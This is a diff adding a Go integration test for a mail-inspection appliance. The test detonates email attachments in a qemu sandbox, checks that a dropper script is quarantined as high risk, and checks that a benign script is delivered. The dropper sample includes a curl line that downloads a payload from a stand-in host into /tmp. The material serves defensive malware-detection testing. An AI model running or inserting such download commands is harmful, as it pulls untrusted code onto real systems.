@@ -1,0 +1,114 @@
+//go:build sandbox
+
+package appliance
+
+import (
+	"context"
+	"encoding/json"
+	"os"
+	"os/exec"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+
+	"mailinspector/internal/cli"
+	"mailinspector/internal/testutil"
+)
+
+// TestSandboxTCG detonates samples in the real Linux guest under qemu TCG,
+// through the whole mail flow: a system libvirtd on a private socket, the
+// isolated sandbox network, the fake internet on the host side, the guest
+// image of make sandbox-guest (MAILINSPECTOR_SANDBOX_GUEST), SMTP in. A
+// script that installs itself and calls out is quarantined as high risk;
+// a benign one is delivered with no risk. make sandbox-test runs it.
+func TestSandboxTCG(t *testing.T) {
+	guest := os.Getenv("MAILINSPECTOR_SANDBOX_GUEST")
+	if guest == "" {
+		t.Skip("MAILINSPECTOR_SANDBOX_GUEST is not set (make sandbox-test sets it)")
+	}
+	if os.Geteuid() != 0 {
+		t.Skip("needs root: a system libvirtd with a bridge")
+	}
+	guest, _ = filepath.Abs(guest)
+	testutil.RequireTool(t, "qemu-system-x86_64")
+	lvd := testutil.StartSystemLibvirtd(t)
+	netXML, err := os.ReadFile("../packer/sandbox-guest/network.xml")
+	must(t, err)
+	lvd.CreateNetwork(t, string(netXML))
+
+	// Instance disks: overlays on the guest image, readable by the qemu user.
+	dir, err := os.MkdirTemp("/var/tmp", "mi-sandbox-test-")
+	must(t, err)
+	t.Cleanup(func() { os.RemoveAll(dir) })
+	must(t, os.Chmod(dir, 0o755))
+	must(t, os.Chmod(guest, 0o644))
+	if out, err := exec.Command("qemu-img", "create", "-q", "-f", "qcow2", "-F", "qcow2", "-b", guest,
+		filepath.Join(dir, "mi-sbx-linux-0.qcow2")).CombinedOutput(); err != nil {
+		t.Fatalf("qemu-img: %v %s", err, out)
+	}
+	tmpl, err := os.ReadFile("../packer/sandbox-guest/linux-domain.xml")
+	must(t, err)
+	domain := strings.ReplaceAll(string(tmpl), "/var/lib/mailinspector/sandbox/", dir+"/")
+	domain = strings.ReplaceAll(domain, "/var/log/libvirt/qemu/", dir+"/")
+	must(t, os.WriteFile(filepath.Join(dir, "domain.xml"), []byte(domain), 0o644))
+
+	start := time.Now()
+	a := startApp(t, filepath.Join(dir, "data"), map[string]string{"sandbox.libvirt": lvd.SystemURI(),
+		"sandbox.domain_template": filepath.Join(dir, "domain.xml"), "sandbox.instances": "1",
+		"sandbox.agent_base": "10.77.0.10:7480", "sandbox.fakenet": "10.77.0.1", "sandbox.call_timeout": "120s",
+		"sandbox.run_time": "20s", "sandbox.submission_timeout": "20m"})
+	t.Cleanup(func() {
+		if t.Failed() {
+			b, _ := os.ReadFile(filepath.Join(dir, "mi-sbx-linux-0.serial.log"))
+			t.Logf("guest serial log:\n%s", tail(string(b), 60))
+		}
+	})
+	deadline := time.Now().Add(10 * time.Minute)
+	for {
+		st, _ := a.SandboxStatus(context.Background())
+		if st.Status != nil && st.Status.Images[0].Free == 1 {
+			break
+		}
+		if time.Now().After(deadline) {
+			t.Fatalf("the instance was never ready: %+v", st.Status)
+		}
+		time.Sleep(time.Second)
+	}
+	t.Logf("instance defined, booted, agent ready, snapshotted after %s", time.Since(start).Round(time.Second))
+
+	dropperTCG := dropper + "curl -s -m 5 http://update.example.com/payload -o /tmp/p || true\n"
+	bad := sendNew(t, a, withAttachment("invoice", "application/octet-stream", "invoice.sh", []byte(dropperTCG)))
+	d := waitState(t, a, bad, "quarantined", 15*time.Minute)
+	f := findingOf(d, "virtual-analyzer")
+	if f == nil || f.Risk != "high" || !strings.Contains(f.Detail, "persistence") {
+		t.Fatalf("finding %+v; trail %+v", f, d.Trail)
+	}
+	good := sendNew(t, a, withAttachment("figures", "text/x-sh", "figures.sh", []byte("#!/bin/sh\necho quarterly figures\n")))
+	d = waitState(t, a, good, "delivered", 15*time.Minute)
+	if e := trailEntry(d, "virtual-analyzer"); e.Outcome != "ok" || !strings.Contains(e.Detail, "no risk") {
+		t.Fatalf("the benign script: %+v", e)
+	}
+	v, err := cli.Exec(context.Background(), a, "show analysis "+sha([]byte(dropperTCG)))
+	must(t, err)
+	var rep struct {
+		Verdict struct{ Matches []struct{ ID string } }
+		Report  struct{ Events []struct{ Type, Addr string } }
+	}
+	must(t, json.Unmarshal(v.(*cli.Analysis).Report, &rep))
+	var dnsSeen bool
+	for _, e := range rep.Report.Events {
+		if e.Type == "dns" && e.Addr == "update.example.com" {
+			dnsSeen = true
+		}
+	}
+	if !dnsSeen {
+		t.Errorf("the fake internet did not see the DNS question: %+v", rep.Report.Events)
+	}
+	st, _ := a.SandboxStatus(context.Background())
+	for _, r := range st.Status.Recent {
+		t.Logf("analysis %s: waited %d ms, took %d ms: revert %d ms, agent ready %d ms, run %d ms, teardown %d ms",
+			r.SHA256[:12], r.WaitedMS, r.TookMS, r.Phases.RevertMS, r.Phases.ReadyMS, r.Phases.RunMS, r.Phases.TeardownMS)
+	}
+	t.Logf("accelerator: %s; whole test %s", st.Accelerator, time.Since(start).Round(time.Second))
+}
